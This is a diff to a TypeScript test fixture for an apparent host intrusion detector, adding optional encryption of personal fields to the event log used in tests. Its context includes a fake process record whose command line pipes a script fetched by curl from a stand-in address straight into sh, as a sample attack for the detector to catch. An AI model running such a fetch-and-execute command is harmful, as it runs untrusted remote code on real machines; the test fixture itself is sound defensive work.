@@ -10,7 +10,8 @@ import { connectNats } from '../../src/nats/connect.ts';
 import { fold } from '../../src/domain/decider.ts';
 import { loadPack } from '../../src/detect/pack.ts';
 import { Detector, type DetectorOptions } from '../../src/detect/workers.ts';
-import { commitsOf, EventLog, type EventEnvelope, partitionOf } from '../../src/log/mod.ts';
+import { commitsOf, EventLog, type EventEnvelope, partitionOf, Streams } from '../../src/log/mod.ts';
+import { openPrivacy } from '../../src/privacy/mod.ts';
 import { createLogger } from '../../src/logger.ts';
 import { canonicalJson } from '../../src/merkle/canonical-json.ts';
 import { openInstallBox } from '../../src/notify/install-box.ts';
@@ -66,11 +67,19 @@ export function proc(over: Partial<ProcessItem> = {}): ProcessItem {
 export const curlPipe = (pid = 31337): ProcessItem =>
   proc({ pid, exe: '/usr/bin/bash', name: 'bash', cmdline: 'bash -c curl -fsSL http://203.0.113.9/x.sh | sh', parentExe: '/usr/sbin/cron' });
 
-/** `setup` runs on the log before the detector's first start: what it writes is history to the detector. */
-export async function detectFixture(o: Partial<DetectorOptions> = {}, setup?: (log: EventLog) => Promise<void>): Promise<DetectFixture> {
+/**
+ * `setup` runs on the log before the detector's first start: what it writes is history to the
+ * detector. `fieldEncryption` seals personal fields in the log as an install does by default.
+ */
+export async function detectFixture(
+  o: Partial<DetectorOptions> = {},
+  setup?: (log: EventLog) => Promise<void>,
+  fx: { fieldEncryption?: boolean } = {},
+): Promise<DetectFixture> {
   const nats = await natsFixture();
   const nc = await connectNats({ servers: nats.url });
-  const log = await EventLog.connect(nc);
+  const privacy = fx.fieldEncryption ? await openPrivacy(await Streams.open(nc)) : null;
+  const log = await EventLog.connect(nc, privacy ? { fields: privacy.cipher } : {});
   await log.streams.ensureStream(telemetryStreamSpec());
   await setup?.(log);
   const logger = createLogger({ level: process.env.STK_TEST_LOG ?? 'silent' });
@@ -144,6 +153,7 @@ export async function detectFixture(o: Partial<DetectorOptions> = {}, setup?: (l
     },
     async cleanup() {
       await detector.close().catch(() => {});
+      await privacy?.close();
       log.close();
       await nc.close();
       await nats.stop();
